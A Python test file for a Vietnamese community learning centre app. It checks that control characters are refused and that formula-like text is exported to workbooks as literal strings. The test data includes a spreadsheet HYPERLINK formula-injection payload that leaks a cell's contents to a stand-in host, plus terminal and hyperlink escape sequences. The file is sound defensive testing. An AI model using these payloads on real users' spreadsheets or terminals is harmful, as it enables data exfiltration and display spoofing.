"""Issue 12, points 4 and 5: text is data, and one validator for every synced table.

* Control characters are refused with a clear message at entry (the form's core rules), at the
  Excel import and in the merge; which field accepts which is documented in domain/text.py.
* Every text cell of every workbook we write is a string cell (openpyxl data type "s"), whatever
  it starts with; a spreadsheet shows the literal text. PDFs print what was accepted.
* The merge runs the form's rules on every synced table (the centre and its log included), and
  `check` reports every stored record that breaks them; the centre page still loads.
"""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import subprocess

import pytest
from openpyxl import load_workbook

from tests.core.test_sync_fixtures import PEK, confirm_all, department, sender
from xhht_desktop.clc import repository as clc
from xhht_desktop.clc.domain import Activity, Centre, build_activity, build_centre, check_centre_record
from xhht_desktop.clc.xlsx import SHEET, ClcSheetImporter, export_log_xlsx
from xhht_desktop.domain.text import control_characters, control_problem_vi
from xhht_desktop.domain.values import Entry, validate_entries
from xhht_desktop.installation import get_installation
from xhht_desktop.io import cells
from xhht_desktop.io.xlsx_entry import import_workbook, write_template
from xhht_desktop.maintenance.check import run_checks
from xhht_desktop.sync import merge

TODAY = dt.date(2014, 7, 1)
# What a spreadsheet would evaluate if it were a formula: each must stay the literal text.
FORMULA_TEXTS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+1+2", "-3+4", "@SUM(A1:A3)",
                 "=1+1", "\t=2+2", "\r=3+3"]
ACTIVITY = {"date": "10/05/2014", "title": "Trồng cà phê", "category": "agri_tech", "format": "talk",
            "sessions": 1, "visits": 30, "women": 12}


# ---- the policy ---------------------------------------------------------------------------------

def test_which_control_characters_each_kind_of_field_accepts():
    assert control_characters("Lớp\x07học") == ["U+0007"]
    assert control_characters("a\x7fb\x85c\x9bd") == ["U+007F", "U+0085", "U+009B"]  # DEL and C1
    assert control_characters("dòng 1\ndòng 2\tcột\r\n", multiline=True) == []
    assert control_characters("dòng 1\ndòng 2") == ["U+000A"]  # one-line fields take no line break
    assert control_characters("Xã Đắk Pék – «ổn» …") == []
    assert "ký tự điều khiển" in control_problem_vi("a\x00b") and "U+0000" in control_problem_vi("a\x00b")
    assert "một dòng" in control_problem_vi("a\nb")


# ---- entry: the rules the form uses -------------------------------------------------------------

@pytest.mark.parametrize("field,text", [("title", "Lớp\x1b[31mhọc"), ("partner", "Hội\x00Phụ nữ"),
                                        ("place", "Thôn\x7f1"), ("funding", "Ngân\x85sách"),
                                        ("notes", "Ghi\x9bchú")])
def test_the_activity_form_refuses_control_characters(field, text):
    activity, errors = build_activity({**ACTIVITY, field: text}, today=TODAY)
    assert activity is None
    assert [e.field for e in errors] == [field] and "ký tự điều khiển" in errors[0].message


def test_the_activity_form_keeps_one_line_fields_on_one_line_and_notes_multi_line():
    activity, errors = build_activity({**ACTIVITY, "title": "Lớp\thọc\nmới", "notes": "dòng 1\ndòng 2"}, today=TODAY)
    assert errors == []
    assert activity.title == "Lớp học mới" and activity.notes == "dòng 1\ndòng 2"


def test_the_centre_form_refuses_control_characters():
    centre, errors = build_centre({"name": "TTHTCĐ xã Đắk Pék", "director": "A\x85Nhơn"}, today=TODAY)
    assert centre is None and errors[0].field == "director" and "U+0085" in errors[0].message
    centre, errors = build_centre({"name": "TTHTCĐ", "branches": ["Thôn 1", "Thôn\x072"]}, today=TODAY)
    assert centre is None and errors[0].field == "branches"


def test_a_figure_comment_with_control_characters_is_an_error():
    issues = validate_entries([Entry("XMC_15_60", None, 10, 20, comment="ghi\x1bchú")])
    assert [(i.severity, i.field, i.code) for i in issues] == [("error", "comment", "control_char")]
    assert "ký tự điều khiển" in issues[0].message
    assert validate_entries([Entry("XMC_15_60", None, 10, 20, comment="dòng 1\ndòng 2")]) == []


# ---- import -------------------------------------------------------------------------------------

def _fill_clc(path, row: dict) -> None:
    wb = load_workbook(path)
    ws = wb[SHEET]
    titles = {c.value: c.column for c in ws[6] if c.value}
    for title, v in row.items():
        ws.cell(row=7, column=titles[title], value=v)
    wb.save(path)


def test_the_excel_import_refuses_control_characters(commune_db, tmp_path):
    # The workbook format can carry DEL and the C1 controls (openpyxl writes them, Excel keeps them).
    inst = get_installation(commune_db)
    path = write_template(commune_db, inst.unit, "2014-H1", tmp_path / "t.xlsx")
    _fill_clc(path, {"Ngày": "10/05/2014", "Tên hoạt động": "Chuyên đề\x9b cà phê", "Nhóm chuyên đề": "Pháp luật",
                     "Hình thức": "Nói chuyện", "Số buổi": 1, "Lượt người học": 30})
    result = import_workbook(commune_db, inst.unit, path, actor="a", origin="o", extra_importers=(ClcSheetImporter(),))
    assert not result.ok and any("ký tự điều khiển" in p.text() for p in result.problems)
    assert commune_db.conn.execute("SELECT COUNT(*) FROM clc_activities").fetchone() == (0,)

    path = write_template(commune_db, inst.unit, "2014-H1", tmp_path / "u.xlsx")
    wb = load_workbook(path)
    ws = wb["ChiTieu"]
    row = next(r for r in range(1, ws.max_row + 1) if ws.cell(row=r, column=1).value == "XMC_15_60")
    ws.cell(row=row, column=3, value=10)
    ws.cell(row=row, column=4, value=20)
    ws.cell(row=row, column=6, value="ghi\x7fchú")
    wb.save(path)
    result = import_workbook(commune_db, inst.unit, path, actor="a", origin="o")
    assert not result.ok and any("ký tự điều khiển" in p.text() for p in result.problems)
    assert commune_db.conn.execute("SELECT COUNT(*) FROM indicator_values").fetchone() == (0,)


# ---- merge: the same rules for every synced table -----------------------------------------------

def _who(site) -> dict:
    return {"actor": site.inst.actor, "origin": site.inst.installation_id}


def _activity(title: str = "Nói chuyện pháp luật") -> Activity:
    return Activity(date=dt.date(2014, 5, 10), title=title, category="law_policy", format="talk", sessions=1,
                    visits=30, women=12)


# Each slipped past the commune's checks (an old version, a hand edit, a crafted package).
BROKEN = {
    "activity_control": ("clc_activities", "UPDATE clc_activities SET title='Nói chuyện\x07pháp luật'", "U+0007"),
    "activity_notes_c1": ("clc_activities", "UPDATE clc_activities SET notes='ghi\x85chú'", "U+0085"),
    "activity_basic_date": ("clc_activities", "UPDATE clc_activities SET date='20140510'", "YYYY-MM-DD"),
    "activity_women": ("clc_activities", "UPDATE clc_activities SET women=31", "lớn hơn"),
    "centre_bad_date": ("clc_centres", "UPDATE clc_centres SET decision_date='2014-02-30'", "ngày có thật"),
    "centre_control": ("clc_centres", "UPDATE clc_centres SET director='A\x1bNhơn'", "U+001B"),
    "centre_no_name": ("clc_centres", "UPDATE clc_centres SET name=''", "chưa nhập"),
    "figure_comment": ("indicator_values", "UPDATE indicator_values SET comment='ghi\x1bchú'", "U+001B"),
    "updated_by": ("clc_activities", "UPDATE clc_activities SET updated_by='Y Blong\x1b[2J'", "điều khiển"),
}


@pytest.fixture
def pair(tmp_path):
    dept = department(tmp_path)
    pek = sender(tmp_path, dept, "commune", PEK)
    clc.save_centre(pek.db, pek.unit_id, Centre(name="TTHTCĐ xã Đắk Pék", director="A Nhơn"), **_who(pek))
    clc.add_activity(pek.db, pek.unit_id, _activity(), today=TODAY, **_who(pek))
    pek.save("2014-H1", Entry("XMC_15_60", None, 1150, 1200, comment="đã rà soát"))
    yield dept, pek
    dept.close()
    pek.close()


@pytest.mark.parametrize("case", sorted(BROKEN))
def test_the_merge_refuses_what_the_form_would_refuse(pair, tmp_path, case):
    dept, pek = pair
    table, sql, reason = BROKEN[case]
    pek.db.conn.execute(sql)
    pek.db.conn.commit()
    first = merge.merge_files(dept.db, [pek.export(tmp_path / "usb")])
    # Refused when opened (the sync columns' shape), or held for the new sender then refused on confirming.
    (p,) = first.packages if first.packages[0].status == "rejected" else confirm_all(dept).packages
    assert p.status == "rejected", (case, p.status, p.problems)
    assert any(reason in x for x in [p.reason or "", *p.problems]), (p.reason, p.problems)
    for name in ("clc_centres", "clc_activities", "indicator_values"):  # all or nothing
        assert dept.db.conn.execute(f"SELECT COUNT(*) FROM {name}").fetchone() == (0,)


def test_the_record_rules_cover_what_the_database_cannot_hold():
    """A crafted package can carry what the commune's schema would refuse (negative counts, a flag of 5):
    the merge's rules refuse it before any write."""
    from xhht_desktop.clc.domain import check_activity_record
    row = {"date": "2014-05-10", "title": "Nói chuyện", "category": "law_policy", "format": "talk", "sessions": 1,
           "visits": 30, "women": -1, "end_date": None}
    assert [e.field for e in check_activity_record(row, unit_valid_from=None, unit_valid_to=None)] == ["women"]
    assert [e.field for e in check_activity_record({**row, "women": 1, "category": "x"}, unit_valid_from=None,
                                                   unit_valid_to=None)] == ["category"]
    assert [e.field for e in check_centre_record({"name": "TT", "combined_culture": 5})] == ["combined_culture"]


def test_a_clean_package_still_merges(pair, tmp_path):
    dept, pek = pair
    merge.merge_files(dept.db, [pek.export(tmp_path / "usb")])
    (p,) = confirm_all(dept).packages
    assert p.status == "imported" and p.counts["new"] == 3


# ---- check: every stored record that breaks the rules -------------------------------------------

def test_check_reports_every_stored_record_that_breaks_the_rules(pair):
    _dept, pek = pair
    assert run_checks(pek.db).ok
    pek.db.conn.execute("UPDATE clc_centres SET decision_date='2014-02-30'")
    pek.db.conn.execute("UPDATE clc_activities SET date='20140510', notes='ghi\x85chú'")
    pek.db.conn.execute("UPDATE indicator_values SET comment='ghi\x1bchú'")
    pek.db.conn.commit()
    findings = run_checks(pek.db).findings
    text = "\n".join(f.text() for f in findings)
    assert "2014-02-30" in text and "Ngày quyết định" in text
    assert "20140510" in text and "U+0085" in text
    assert "U+001B" in text and "XMC_15_60" in text


def test_the_centre_page_loads_a_centre_with_an_invalid_date(pair):
    """The repository gives the centre flagged with what is wrong, instead of failing to load it."""
    _dept, pek = pair
    pek.db.conn.execute("UPDATE clc_centres SET decision_date='2014-02-30'")
    pek.db.conn.commit()
    centre = clc.get_centre(pek.db, pek.unit_id)
    assert centre.name == "TTHTCĐ xã Đắk Pék" and centre.decision_date is None
    assert centre.problems and "2014-02-30" in centre.problems[0]
    assert check_centre_record({"name": "TTHTCĐ", "decision_date": "2014-02-30"})


# ---- workbooks: text is text --------------------------------------------------------------------

def _string_cells(path):
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str):
                    yield ws.title, c


def test_the_text_helper_never_makes_a_formula():
    from openpyxl import Workbook
    ws = Workbook().active
    for i, text in enumerate(FORMULA_TEXTS, start=1):
        c = cells.text(ws.cell(row=i, column=1), text)
        assert (c.value, c.data_type) == (text, "s")
    assert cells.text(ws.cell(row=9, column=1), "a\x07b").value == "a\ufffdb"  # never a traceback
    assert cells.formula(ws.cell(row=10, column=1), "=A1+1").data_type == "f"


def _store_formula_titles(db, unit_id, who):
    for text in FORMULA_TEXTS:  # a tab or CR cannot start a one-line field: those go in the notes
        a = _activity(text.strip())
        a.notes = text
        a.partner = text.strip()
        clc.add_activity(db, unit_id, a, today=TODAY, **who)


def test_clc_export_writes_text_that_looks_like_a_formula_as_text(commune_db, tmp_path):
    inst = get_installation(commune_db)
    _store_formula_titles(commune_db, inst.unit.id, {"actor": "a", "origin": "o"})
    out = export_log_xlsx(commune_db, inst.unit.id, clc.ActivityFilter(), tmp_path / "log.xlsx")
    found = {c.value for _s, c in _string_cells(out)}
    for text in FORMULA_TEXTS:
        assert text.strip() in found or text in found
    assert all(c.data_type == "s" for _s, c in _string_cells(out))


@pytest.mark.skipif(not shutil.which("libreoffice"), reason="LibreOffice not installed")
def test_clc_export_shows_formula_like_text_literally_in_libreoffice(commune_db, tmp_path):
    """What a spreadsheet program shows: the literal text, never a computed value."""
    inst = get_installation(commune_db)
    _store_formula_titles(commune_db, inst.unit.id, {"actor": "a", "origin": "o"})
    out = export_log_xlsx(commune_db, inst.unit.id, clc.ActivityFilter(), tmp_path / "log.xlsx")
    subprocess.run(["libreoffice", "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76",
                    "--outdir", str(tmp_path), str(out)],
                   check=True, capture_output=True, timeout=120,
                   env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"})
    with open(tmp_path / "log.csv", encoding="utf-8", newline="") as fh:
        shown = {v for row in csv.reader(fh) for v in row}
    assert '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")' in shown
    assert {"+1+2", "-3+4", "@SUM(A1:A3)", "=1+1", "\t=2+2"} <= shown  # none computed


def test_the_template_round_trips_formula_like_text(commune_db, tmp_path):
    """A re-exported template writes the titles and comments as text, and imports them back unchanged."""
    inst = get_installation(commune_db)
    _store_formula_titles(commune_db, inst.unit.id, {"actor": "a", "origin": "o"})
    from xhht_desktop.db import values_repo
    values_repo.save_entries(commune_db, inst.unit.id, "2014-H1",
                             [Entry("XMC_15_60", None, 10, 20, comment="=1+1")], actor="a", origin="o")
    path = write_template(commune_db, inst.unit, "2014-H1", tmp_path / "t.xlsx")
    strings = list(_string_cells(path))
    assert all(c.data_type == "s" for _s, c in strings)
    assert ("ChiTieu", "=1+1") in {(s, c.value) for s, c in strings}
    before = sorted(a.title for a in clc.list_activities(commune_db, [inst.unit.id]))
    result = import_workbook(commune_db, inst.unit, path, actor="a", origin="o",
                             extra_importers=(ClcSheetImporter(today=TODAY),))
    assert result.ok, [p.text() for p in result.problems]
    assert sorted(a.title for a in clc.list_activities(commune_db, [inst.unit.id])) == before
    assert commune_db.conn.execute("SELECT comment FROM indicator_values").fetchone() == ("=1+1",)


def test_report_workbooks_write_user_text_as_text(db, tmp_path):
    from xhht_desktop.installation import init_installation
    from xhht_desktop.reports.cli import generate
    from xhht_desktop.domain.periods import parse_period
    from xhht_desktop.db import units_repo
    init_installation(db, "commune", PEK, '=HYPERLINK("http://example.invalid","Y Blong")', "@Cán bộ")
    unit = units_repo.find_unit(db, PEK, parse_period("2014-H1"))
    out = generate(db, "progress", unit, parse_period("2014-H1"), "xlsx", tmp_path / "p.xlsx")
    strings = {c.value: c.data_type for _s, c in _string_cells(out)}
    assert strings['=HYPERLINK("http://example.invalid","Y Blong")'] == "s"


@pytest.mark.skipif(not shutil.which("pdftotext"), reason="poppler-utils not installed")
def test_pdfs_print_what_was_accepted(db, tmp_path):
    from xhht_desktop.installation import init_installation
    from xhht_desktop.reports.cli import generate
    from xhht_desktop.domain.periods import parse_period
    from xhht_desktop.db import units_repo
    name = "<b>Y Blong</b> & =1+1 <i>x"
    init_installation(db, "commune", PEK, name, "Cán bộ")
    unit = units_repo.find_unit(db, PEK, parse_period("2014-H1"))
    out = generate(db, "progress", unit, parse_period("2014-H1"), "pdf", tmp_path / "p.pdf")
    text = subprocess.run(["pdftotext", str(out), "-"], check=True, capture_output=True, text=True).stdout
    assert name in text


def test_a_manifest_naming_its_sender_with_control_characters_is_refused(pair, tmp_path):
    """The names a package gives (unit, official) are shown in the installations list and receipts."""
    import json

    from tests.core.test_sync_package import _members, _merge_bytes, _resign
    from xhht_desktop.sync import package
    dept, pek = pair
    members = _members(dept, pek.export(tmp_path / "usb"))
    manifest = json.loads(members[package.MANIFEST_NAME])
    manifest["official"]["name"] = "Y Blong\x1b]8;;http://example.invalid\x07"
    result = _merge_bytes(dept, _resign(dept, pek, members, manifest), tmp_path)
    assert result.code == "bad_manifest" and "ký tự điều khiển" in result.reason


def test_an_export_with_a_control_character_already_stored_does_not_fail(commune_db, tmp_path):
    """Stored before this version refused them: the province-wide export writes U+FFFD instead of a
    traceback, and `check` names the record."""
    inst = get_installation(commune_db)
    clc.add_activity(commune_db, inst.unit.id, _activity(), today=TODAY, actor="a", origin="o")
    commune_db.conn.execute("UPDATE clc_activities SET title='Nói chuyện\x07pháp luật'")
    commune_db.conn.commit()
    out = export_log_xlsx(commune_db, inst.unit.id, clc.ActivityFilter(), tmp_path / "log.xlsx")
    assert "Nói chuyện\ufffdpháp luật" in {c.value for _s, c in _string_cells(out)}
    assert any("U+0007" in f.message for f in run_checks(commune_db).findings)


def test_init_refuses_an_official_name_with_control_characters(db):
    """The name travels in every manifest (which refuses it): refused at entry, not at the Department."""
    from xhht_desktop.installation import InitError, init_installation
    with pytest.raises(InitError, match="ký tự điều khiển"):
        init_installation(db, "commune", PEK, "Y Blong\x1b[2J", "Cán bộ")
    assert get_installation(db) is None
    assert init_installation(db, "commune", PEK, "Y Blong", "Cán bộ").official_name == "Y Blong"


from tests.core.test_reports_output import reports_db  # noqa: E402,F401 - fixture


def test_report_formulas_of_ours_stay_formulas(reports_db, tmp_path):
    """The other side of "text is text": the rates and differences the reports compute in Excel are
    written with Sheet.f and stay live formulas (a formula passed to Sheet.c would become text)."""
    from xhht_desktop.domain.periods import parse_period
    from xhht_desktop.reports.cli import generate
    from tests.core.test_reports_fixtures import unit
    for kind, code, name in (("progress", PEK, "p.xlsx"), ("consolidated", "610", "c.xlsx")):
        out = generate(reports_db, kind, unit(reports_db, code), parse_period("2014"), "xlsx", tmp_path / name)
        wb = load_workbook(out)
        ours = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith("=IF(")]
        assert ours, kind
        assert {c.data_type for c in ours} == {"f"}, kind


def test_every_synced_table_has_its_domain_rules_wired(db):
    """One validator for every table: a synced table added later must say which rules the merge runs."""
    from xhht_desktop.sync.tables import KNOWN_TABLES, table_specs
    specs = table_specs(db)
    assert set(specs) == set(KNOWN_TABLES)
    # The figures: merge._validate_figures runs domain.values.validate_entries per period.
    # The completeness marks: (period, complete) are wholly defined by their column checks.
    schema_only = {"indicator_values", "period_status"}
    assert {name for name, spec in specs.items() if spec.validate is None} == schema_only
    assert specs["period_status"].fields == ("period", "complete")
